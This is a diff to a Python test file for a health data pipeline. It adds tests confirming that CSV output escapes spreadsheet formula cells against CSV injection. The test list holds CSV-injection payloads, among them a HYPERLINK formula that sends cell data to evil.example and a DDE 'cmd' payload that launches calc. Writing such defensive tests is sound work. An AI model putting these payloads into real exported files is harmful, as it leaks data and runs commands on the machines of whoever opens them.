@@ -10,7 +10,7 @@ import numpy as np
 import pandas as pd
 import pytest
 
-from health_mlops.data.io import DataError, read_table
+from health_mlops.data.io import DataError, read_table, write_csv
 from health_mlops.data.synthetic import CITIES, generate_city_days
 from health_mlops.data.validate import Reason, validate_table, write_quality_report
 from health_mlops.spec import load_spec
@@ -148,3 +148,29 @@ def test_corrupt_parquet_is_unreadable(tmp_path: Path) -> None:
     path.write_bytes(b"PAR1 this is not parquet")
     with pytest.raises(DataError, match="cannot read as Parquet"):
         read_table(path)
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd", "-2+3", "\t=1+1",
+            "\r=1+1"]
+
+
+def test_a_formula_in_any_text_cell_is_written_as_text_and_numbers_stay_numbers(tmp_path: Path) -> None:
+    """OWASP's CSV-injection rule, for every CSV we write (`write_csv`)."""
+    out = tmp_path / "written.csv"
+    write_csv(pd.DataFrame({"patient_id": [*FORMULAS, "P2"], "delta": [-2.0] * len(FORMULAS) + [3.0]}), out)
+    with out.open(newline="", encoding="utf-8") as handle:
+        written = list(csv.DictReader(handle))
+    assert [row["patient_id"] for row in written] == [f"'{cell}" for cell in FORMULAS] + ["P2"]
+    assert {row["delta"] for row in written} == {"-2.0", "3.0"}  # a negative number is a number
+
+
+@pytest.mark.parametrize("cell", FORMULAS[:5])  # a lone CR in a cell is a line break to the reader
+def test_a_quarantined_formula_is_written_aside_as_text(tmp_path: Path, cell: str) -> None:
+    rows = clean_rows(3)
+    rows["sex"] = rows["sex"].astype(object)
+    rows.loc[1, "sex"] = cell  # an unknown category: the row is quarantined with it
+    path = tmp_path / "patients.csv"
+    rows.to_csv(path, index=False)
+    _, quarantine_path = write_quality_report(validate_table(read_table(path), SPEC), tmp_path / "quality")
+    aside = pd.read_csv(quarantine_path, dtype=str, keep_default_na=False)
+    assert aside["sex"].tolist() == [f"'{cell}"]
